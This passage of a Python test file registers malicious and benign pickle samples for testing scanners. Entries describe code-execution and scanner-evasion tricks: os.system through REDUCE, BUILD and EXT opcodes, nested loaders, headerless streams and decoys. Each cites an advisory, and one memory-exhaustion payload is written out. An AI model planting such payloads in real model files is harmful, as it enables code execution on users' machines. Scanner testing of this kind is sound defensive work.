         f"{_PS}/issues/22 (ImaginaryCTF 'Safe Pickle')", rule="process-execution"),
    _bad("pickle-stack-global-string-operands", _stack_global_string_operands,
         "STACK_GLOBAL whose operands are protocol 0 STRING constants",
         f"GHSA-9gvj-pp9x-gcfr {_PS_ADV}/GHSA-9gvj-pp9x-gcfr", rule="process-execution"),
    _bad("pickle-inst-opcode", _inst, "INST imports and calls os.system in one opcode",
         f"{_PS_TESTS} (malicious10.pkl, INST)", rule="process-execution"),
    _bad("pickle-obj-opcode", _obj, "OBJ calls os.system taken from the marked stack",
         "https://github.com/trailofbits/fickling/pull/108 (OBJ payload)",
         rule="process-execution"),
    _bad("pickle-newobj-partial", _newobj_partial,
         "NEWOBJ constructs functools.partial(os.system, cmd); REDUCE calls the partial",
         "https://github.com/trailofbits/fickling/pull/210 (functools.partial wrapper)"),
    _bad("pickle-newobj-ex-check-output", _newobj_ex_check_output,
         "NEWOBJ_EX with kwargs builds partial(subprocess.check_output, cmd, shell=True)",
         "https://github.com/trailofbits/fickling/pull/210 (functools.partial wrapper)"),
    # -- builtins -------------------------------------------------------------------------
    _bad("pickle-builtins-eval", _eval, "builtins.eval of a Python expression",
         _DILL, rule="builtin-code-execution"),
    _bad("pickle-builtins-exec-proto3", _exec_proto3, "builtins.exec with a BINUNICODE argument",
         f"{_PS_TESTS} (Malicious1, eval/exec)", rule="builtin-code-execution"),
    _bad("pickle-builtins-compile-exec", _compile_exec,
         "exec(compile(src, '<model>', 'exec')): a computed code object", _SOUR,
         rule="builtin-code-execution"),
    _bad("pickle-getattr-import-chain", _getattr_import,
         "getattr(__import__('os'), 'system')(cmd): REDUCE on a computed callable",
         _SOUR, rule="builtin-code-execution"),
    _bad("pickle-sour-pickles-chain", _sour_pickle_chain,
         "__builtin__.globals/compile/eval chain with PUT/GET, protocol 0", _SOUR,
         rule="builtin-code-execution"),
    _bad("pickle-builtin-py2-name", _builtin_py2_eval,
         "__builtin__.eval: a Python 2 name the unpickler renames below protocol 3",
         f"{_PS_TESTS} (protocols 0-2 name builtins '__builtin__')",
         rule="builtin-code-execution"),
    _bad("pickle-commands-getoutput", _commands_getoutput,
         "commands.getoutput, renamed by _compat_pickle to subprocess.getoutput (protocol 2)",
         "https://github.com/python/cpython/blob/3.11/Lib/_compat_pickle.py (IMPORT_MAPPING)",
         rule="process-execution"),
    _bad("pickle-posix-system", _posix_system,
         "posix.system, the module os.system really lives in on Linux (protocol 0)",
         "https://github.com/trailofbits/fickling/pull/59", rule="process-execution"),
    # -- attribute walkers and name resolvers ---------------------------------------------
    _bad("pickle-attrgetter-import", _attrgetter,
         "operator.attrgetter('system')(__import__('os'))(cmd)",
         f"{_PS}/pull/25 (operator.attrgetter example)"),
    _bad("pickle-private-operator-attrgetter", _private_operator,
         "_operator.attrgetter applied to importlib.import_module('os')",
         f"{_PS}/pull/54 (Fix _operator)", rule="attribute-walker"),
    _bad("pickle-methodcaller-pydoc-locate", _methodcaller_locate,
         "operator.methodcaller('system', cmd)(pydoc.locate('os'))",
         f"GHSA-84r2-jw7c-4r5q {_PS_ADV}/GHSA-84r2-jw7c-4r5q"),
    _bad("pickle-pkgutil-resolve-name", _resolve_name,
         "pkgutil.resolve_name('os:system') returns os.system",
         f"GHSA-vvpj-8cmc-gx39 {_PS_ADV}/GHSA-vvpj-8cmc-gx39", rule="import-machinery"),
    _bad("pickle-entry-point-load", _entry_point_load,
         "importlib.metadata.EntryPoint('x', 'os:system', 'g').load() resolves os.system",
         "https://docs.python.org/3/library/importlib.metadata.html#entry-points",
         rule="import-machinery"),
    _bad("pickle-dotted-path-through-module", _dotted_through_module,
         "protocol 4 dotted name 'os.system' looked up on the allowlisted module uuid",
         "https://github.com/python/cpython/blob/3.11/Lib/pickle.py (_getattribute, protocol 4)",
         rule="process-execution"),
    _bad("pickle-dunder-globals-walk", _dunder_globals_walk,
         "uuid.UUID.__init__.__globals__ walked with dict.get to builtins exec",
         "", rule="attribute-walk"),
    _bad("pickle-functools-partial", _partial_reduce,
         "functools.partial(os.system, cmd) called through REDUCE with no arguments",
         "https://github.com/trailofbits/fickling/pull/210 (functools.partial wrapper)"),
    _bad("pickle-reduce-result-of-allowed-call", _result_of_allowed_call,
         "allowlisted copyreg.__newobj__ builds a partial; REDUCE calls that result",
         "", severity="high"),
    # -- nested pickles and loaders -------------------------------------------------------
    _bad("pickle-nested-cpickle-codecs", _nested_cpickle_codecs,
         "cPickle.loads(_codecs.encode(<malicious pickle>, 'latin1')), protocol 0",
         f"{_PS}/pull/25 (pickle.loads of _codecs.encode bytes)", rule="nested-deserialiser"),
    _bad("pickle-nested-private-pickle", _nested_private_pickle,
         "_pickle.loads of a SHORT_BINBYTES malicious pickle, protocol 4",
         f"{_PS_TESTS} (malicious13b.pkl, _pickle.loads)", rule="nested-deserialiser"),
    _bad("pickle-nested-numpy-load", _nested_numpy_load,
         "numpy.load(io.BytesIO(<malicious pickle>), None, allow_pickle=True)",
         _EOP + " (model loading paths)", rule="nested-deserialiser"),
    _bad("pickle-torch-load-partial", _torch_load_partial,
         "functools.partial(torch.load, 'other.bin', weights_only=False)()",
         f"{_PS_TESTS} (Malicious19, partial(torch.load))"),
    # -- other code execution primitives --------------------------------------------------
    _bad("pickle-subprocess-popen", _popen, "subprocess.Popen(['sh', '-c', cmd]), protocol 2",
         f"{_PS_TESTS} (Malicious7, subprocess)", rule="process-execution"),
    _bad("pickle-subprocess-check-output", _check_output,
         "subprocess.check_output(['touch', path])", f"{_PS_TESTS} (Malicious7, subprocess)",
         rule="process-execution"),
    _bad("pickle-runpy-run-code", _run_code, "runpy._run_code(code, {})",
         "https://github.com/trailofbits/fickling/pull/60", rule="import-machinery"),
    _bad("pickle-pty-spawn", _pty_spawn, "pty.spawn(['sh', '-c', cmd])",
         f"GHSA-vqmv-47xg-9wpr {_PS_ADV}/GHSA-vqmv-47xg-9wpr", rule="process-execution"),
    _bad("pickle-code-interactive-interpreter", _interactive_interpreter,
         "code.InteractiveInterpreter.runcode on a fresh interpreter",
         f"GHSA-cj3c-v495-4xqh {_PS_ADV}/GHSA-cj3c-v495-4xqh", rule="code-objects"),
    _bad("pickle-bdb-run", _bdb_run, "bdb.Bdb.run(Bdb(), code)",
         f"{_PS_TESTS} (Malicious15, bdb.Bdb.run)", rule="debugger-profiler"),
    _bad("pickle-profile-run", _profile_run, "profile.Profile.run(Profile(), code)",
         f"GHSA-x696-vm39-cp64 {_PS_ADV}/GHSA-x696-vm39-cp64", rule="debugger-profiler"),
    _bad("pickle-cprofile-run", _cprofile_run, "cProfile.run(code)",
         f"GHSA-49gj-c84q-6qm9 {_PS_ADV}/GHSA-49gj-c84q-6qm9", rule="debugger-profiler"),
    _bad("pickle-trace-run", _trace_run, "trace.Trace.run(Trace(), code)",
         f"GHSA-5qwp-399c-mjwf {_PS_ADV}/GHSA-5qwp-399c-mjwf", rule="debugger-profiler"),
    _bad("pickle-timeit", _timeit, "timeit.timeit('pass', setup=code)",
         f"GHSA-v7x6-rv5q-mhwc {_PS_ADV}/GHSA-v7x6-rv5q-mhwc", rule="debugger-profiler"),
    _bad("pickle-numpy-runstring", _numpy_runstring,
         "numpy.testing._private.utils.runstring(code, {})",
         f"{_PS_TESTS} (Malicious22, numpy runstring)", rule="numpy-code-execution"),
    _bad("pickle-idlelib-get-entity", _idlelib_get_entity,
         "idlelib.calltip.get_entity(expression) evaluates the expression",
         f"GHSA-9xph-j2h6-g47v {_PS_ADV}/GHSA-9xph-j2h6-g47v", rule="developer-tools"),
    _bad("pickle-lib2to3-make-label", _lib2to3_make_label,
         "lib2to3.pgen2.pgen.ParserGenerator.make_label evaluates its label",
         f"GHSA-p9w7-82w4-7q8m {_PS_ADV}/GHSA-p9w7-82w4-7q8m", rule="developer-tools"),
    _bad("pickle-asyncio-subprocess-transport", _asyncio_subprocess_transport,
         "asyncio.unix_events._UnixSubprocessTransport._start: a submodule of a denied module",
         f"GHSA-q77w-mwjj-7mqx {_PS_ADV}/GHSA-q77w-mwjj-7mqx; CVE-2025-10157 "
         "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
         rule="network"),
    _bad("pickle-torch-config-module", _torch_config_module,
         "torch.utils._config_module.ConfigModule.load_config of pickled bytes",
         f"GHSA-vv6j-3g6g-2pvj {_PS_ADV}/GHSA-vv6j-3g6g-2pvj", rule="torch-code-execution"),
    _bad("pickle-uuid-command-stdout", _uuid_command_stdout,
         "uuid._get_command_stdout(command, *args) runs a program",
         f"GHSA-g38g-8gr9-h9xp {_PS_ADV}/GHSA-g38g-8gr9-h9xp", rule="process-execution"),
    _bad("pickle-pip-main", _pip_main, "pip.main with attacker-chosen arguments",
         "CVE-2025-1716 https://osv.dev/vulnerability/CVE-2025-1716", rule="package-installation"),
    _bad("pickle-venv-create", _venv_create, "venv.create(path) writes an environment",
         f"{_PS_TESTS} (Malicious20, venv.create)", rule="package-installation"),
    _bad("pickle-distutils-write-file", _distutils_write_file,
         "distutils.file_util.write_file(path, lines)",
         f"GHSA-m273-6v24-x4m4 {_PS_ADV}/GHSA-m273-6v24-x4m4", rule="developer-tools"),
    _bad("pickle-ctypes-cdll", _ctypes_cdll, "getattr(ctypes.CDLL(None), 'system')(cmd)",
         f"GHSA-4675-36f9-wf6r {_PS_ADV}/GHSA-4675-36f9-wf6r", rule="native-code"),
    _bad("pickle-io-fileio-write", _fileio, "_io.FileIO(path, 'w') creates the file",
         "https://github.com/trailofbits/fickling/pull/210 (_io.FileIO)", rule="filesystem"),
    _bad("pickle-builtins-open-write", _builtins_open, "builtins.open(path, 'w')",
         "https://docs.python.org/3/library/pickle.html#restricting-globals",
         rule="builtin-code-execution"),
    _bad("pickle-shutil-copyfile", _shutil_copyfile, "shutil.copyfile('/dev/null', path)",
         "https://github.com/trailofbits/fickling/pull/210 (shutil)", rule="filesystem"),
    _bad("pickle-webbrowser-open", _webbrowser_open, "webbrowser.open(url)",
         "", rule="network"),
    _bad("pickle-logging-config-dictconfig", _logging_dictconfig,
         "logging.config.dictConfig with a FileHandler creates the file",
         f"{_PS_TESTS} (logging_FileHandler.pkl)", rule="import-machinery"),
    _bad("pickle-logging-filehandler", _logging_filehandler,
         "logging.FileHandler(path): on no deny list, so only an allowlist flags it",
         f"{_PS_TESTS} (logging_FileHandler.pkl)", severity="high"),
    # -- state, memo, registry and stream structure --------------------------------------
    _bad("pickle-build-setstate-injection", _build_setstate,
         "no REDUCE: BUILD sets an instance's __setstate__ to os.system, a second BUILD calls it",
         "https://github.com/python/cpython/blob/3.11/Lib/pickle.py (load_build looks "
         "__setstate__ up on the instance)", rule="process-execution"),
    _bad("pickle-build-patches-global", _build_patches_global,
         "BUILD slot state on an imported class plants strings read back by dotted GLOBALs "
         "as STACK_GLOBAL operands", "https://github.com/protectai/modelscan/issues/85"),
    _bad("pickle-setitem-patches-builtins", _setitem_patches_builtins,
         "SETITEM into builtins.__dict__ plants posix.system as builtins._loader", ""),
    _bad("pickle-ext-registered-in-stream", _ext_registered_in_stream,
         "copyreg.add_extension('os', 'system', 241) then EXT1 241 imports it by code",
         "https://docs.python.org/3/library/copyreg.html", rule="extension-registry"),
    _bad("pickle-ext-opcode", _ext_only,
         "EXT2 import through the loading process's copyreg extension registry",
         "https://docs.python.org/3/library/pickletools.html", severity="high"),
    _bad("pickle-concatenated-second-malicious", _concatenated,
         "a benign pickle followed by a malicious one; loaders that load() twice run it",
         f"{_PS_TESTS} (malicious6.pkl)", rule="process-execution"),
    _bad("pickle-frame-past-stop", _frame_past_stop,
         "a protocol 4 frame that runs past its STOP: a second load() starts at the frame's "
         "end, inside what a scanner reading on from the STOP takes for a string", "",
         rule="process-execution"),
    _bad("pickle-popped-decoy", _popped_decoy,
         "a whole benign pickle as a string constant, popped, before the payload", "",
         rule="process-execution"),
    _bad("pickle-eop-memo-miss", _eop_memo_miss,
         "payload, then STACK_GLOBAL on a memo key never stored (scanner KeyError)",
         f"{_PS}/pull/52; {_EOP}", rule="process-execution"),
    _bad("pickle-eop-type-confusion", _eop_type_confusion,
         "payload, then STACK_GLOBAL on an int from the memo (scanner TypeError)",
         f"{_PS}/pull/52; {_EOP}", rule="process-execution"),
    _bad("pickle-broken-after-payload", _broken_after_payload,
         "nullifAI: payload first, then a truncated opcode and no STOP",
         "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
         rule="process-execution"),
    _bad("pickle-broken-after-payload-proto0", _broken_after_payload_proto0,
         "nullifAI without a PROTO header: only the opcodes say it is a pickle",
         "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
         rule="process-execution"),
    _bad("pickle-int-base16-differential", _int_base16,
         "INT 0x1 loads (int(x, 0)) but pickletools rejects it; the payload follows and "
         "must still be named at its own severity", "", rule="process-execution"),
    _bad("pickle-int-base16-differential-proto0", _int_base16_proto0,
         "the INT 0x1 differential at the very start of a headerless pickle", "",
         rule="process-execution"),
    _bad("pickle-memo-index-dos", lambda c: P4 + b"\x8c\x01a" + b"r\x00\x00\x00\x40" + STOP,
         "LONG_BINPUT at index 2**30: the C unpickler sizes its memo array by the index and "
         "allocates gigabytes (memory exhaustion on load)", "", severity="medium",
         rule="pickle-memo-index"),
    _bad("pickle-torch-layer-constructor", _torch_layer_constructor,
         "an allowlisted torch.nn layer called through REDUCE, so its __init__ runs: "
         "Linear(100000, 100000) allocates and initialises 40 GB on torch.load (memory "
         "exhaustion); torch.save writes layers with NEWOBJ + BUILD and never calls __init__",
         "https://pytorch.org/docs/stable/notes/serialization.html (saving a whole module "
         "pickles it; torch.load with weights_only=False unpickles it)",
         severity="medium", rule="pickle-constructor-call"),
    _bad("pickle-bytearray-size", _bytearray_size,
         "bytearray(2**34) through REDUCE: allowlisted builtins given a size allocate and "
         "zero 16 GiB on load (memory exhaustion); pickling rebuilds a bytearray from its "
         "contents", "https://docs.python.org/3/library/pickle.html (object.__reduce__)",
         severity="medium", rule="pickle-allocation"),
    _bad("pickle-headerless-short-binunicode", _headerless_unicode,
         "protocol 4 opcodes without PROTO: the stream starts with SHORT_BINUNICODE", "",
         rule="process-execution"),
    _bad("pickle-headerless-frame", _headerless_frame,
         "a FRAME opcode first, without PROTO", "", rule="process-execution"),
    _bad("pickle-nonstandard-extension", _nonstandard_extension,
         "os.system pickle under an extension scanners do not associate with pickle",
         "CVE-2025-1889 https://osv.dev/vulnerability/CVE-2025-1889",
         rule="process-execution", filename="weights.dat"),
    # -- benign -------------------------------------------------------------------------------
    *[_good(f"pickle-benign-primitives-proto{p}", _benign(p),
            f"plain data (ints, floats, str, bytes, containers, sets, complex, range, slice), "
            f"protocol {p}") for p in range(6)],
    _good("pickle-benign-stdlib-proto2", _benign_stdlib,
          "OrderedDict, Counter, deque, defaultdict(list), datetime family, Decimal, Fraction, "
          "UUID, protocol 2"),
    _good("pickle-benign-stdlib-proto0", _benign_stdlib_proto0,
          "OrderedDict and datetime through copyreg._reconstructor, protocol 0"),
    _good("pickle-benign-cyclic", _benign_cyclic, "a self-containing list and shared references"),
    _good("pickle-benign-deep", _benign_deep, "lists nested 200 deep"),
    _good("pickle-benign-concatenated", _benign_concatenated, "three benign pickles in a row"),
    _good("pickle-benign-proto5-buffer", _benign_proto5_buffer,
          "protocol 5 in-band PickleBuffer (BYTEARRAY8)"),
    *[_good(f"pickle-benign-numpy-proto{p}", _benign_numpy(p),
            f"NumPy arrays (float32, int64, bool, structured, Fortran order) and a scalar, "
            f"protocol {p}", needs=("numpy",)) for p in (2, 4, 5)],
    _good("pickle-benign-sklearn-logreg", _benign_sklearn_logreg,
          "a fitted scikit-learn LogisticRegression", needs=("sklearn", "numpy")),
    _good("pickle-benign-sklearn-pipeline", _benign_sklearn_pipeline,
          "a fitted StandardScaler + DecisionTreeClassifier pipeline, protocol 2",
          needs=("sklearn", "numpy")),
]

#: Malicious samples that are scanner tests only, each with the reason its payload does not
#: run under a plain ``pickle.load`` here. Every other malicious sample is in :data:`LIVE`.
SCAN_ONLY: dict[str, str] = {
    "pickle-torch-load-partial": "the nested file other.bin does not exist (and torch may not)",
    "pickle-lib2to3-make-label": "the advisory's call shape; make_label reads c.labels before "
                                 "its eval on CPython 3.11",
    "pickle-asyncio-subprocess-transport": "_start needs a real transport instance and loop",
    "pickle-torch-config-module": "load_config needs a ConfigModule instance",
    "pickle-webbrowser-open": "its side effect is a browser, not a file",
    "pickle-ext-opcode": "the loading process must have registered extension code 0x1234",
    "pickle-memo-index-dos": "its effect is an 8 GiB allocation, not a file",
    "pickle-torch-layer-constructor": "its effect is a 40 GB allocation, not a file",
    "pickle-bytearray-size": "its effect is a 16 GiB allocation, not a file",
}

#: Malicious samples whose payload really runs under ``pickle.load`` (repeated to the end of
#: the file) on CPython 3.11/Linux, with the modules the payload itself needs.
LIVE: dict[str, tuple[str, ...]] = {
    s.name: ("numpy",) if s.name in ("pickle-nested-numpy-load", "pickle-numpy-runstring") else ()
    for s in SAMPLES
    if s.malicious and s.name not in SCAN_ONLY
}
